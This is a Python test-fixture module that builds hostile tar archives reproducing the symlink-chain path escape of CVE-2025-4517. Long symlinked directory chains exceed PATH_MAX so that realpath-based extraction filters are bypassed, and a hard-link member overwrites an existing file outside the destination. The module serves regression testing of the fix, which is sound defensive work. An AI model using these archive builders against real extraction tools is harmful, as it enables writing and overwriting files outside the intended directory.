# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Hostile release archives for tests: the symlink-chain escape of CVE-2025-4517 (gh-135034) and its variants."""

from __future__ import annotations

import io
import os
import tarfile
import typing as t

Entry = t.Tuple[tarfile.TarInfo, t.Optional[io.BytesIO]]


def entry(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", linkname: str = "", mode: int = 0o644) -> Entry:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    info.mode = mode
    info.mtime = 1_700_000_000
    if kind in (tarfile.REGTYPE, tarfile.AREGTYPE):
        info.size = len(data)
        return info, io.BytesIO(data)
    return info, None


def escape_chain(steps: str = "abcdefghijklmnop", comp_len: int = 247, chain_member_through_links: bool = True,
                 target: str = "../outside") -> tuple[list[Entry], str]:
    """Long directory names reached through one-letter symlinks, a symlink back to the extraction root at the
    end of the chain, and an `escape` symlink that goes on from there to `target`. Spelled out, the chain is
    longer than PATH_MAX, where os.path.realpath() stops resolving: a filter built on it sees `escape` as
    inside the destination, while the kernel follows it to `target`. Returns the entries and the name of the
    member that walks the chain (which passes through the archive's own symlinks unless told otherwise)."""
    comp = "d" * comp_len
    entries, prefix = [], ""
    for letter in steps:
        entries.append(entry(os.path.join(prefix, comp), tarfile.DIRTYPE, mode=0o755))
        entries.append(entry(os.path.join(prefix, letter), tarfile.SYMTYPE, linkname=comp))
        prefix = os.path.join(prefix, comp)
    chain = "/".join(steps)
    back_to_root = (chain if chain_member_through_links else prefix) + "/" + "l" * 254
    entries.append(entry(back_to_root, tarfile.SYMTYPE, linkname="../" * len(steps)))
    entries.append(entry("escape", tarfile.SYMTYPE, linkname=f"{chain}/{'l' * 254}/{target}"))
    return entries, back_to_root


def issue_archive(target: str = "../outside") -> tuple[list[Entry], str]:
    """The archive of the report: a new file written outside through `escape`, an existing one overwritten through
    a hard link to it (`hl`, then a regular member `hl` whose data goes into the linked file)."""
    entries, chain_member = escape_chain(target=target)
    entries += [entry("hl", tarfile.LNKTYPE, linkname="escape/existing"), entry("hl", data=b"overwritten\n"), entry("escape/owned", data=b"owned\n")]
    return entries, chain_member


def write_tar(path: str | os.PathLike[str], entries: list[Entry], mode: str = "w") -> str:
    path = os.fspath(path)
    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT) as tar:
        for info, data in entries:
            tar.addfile(info, data)
    return path
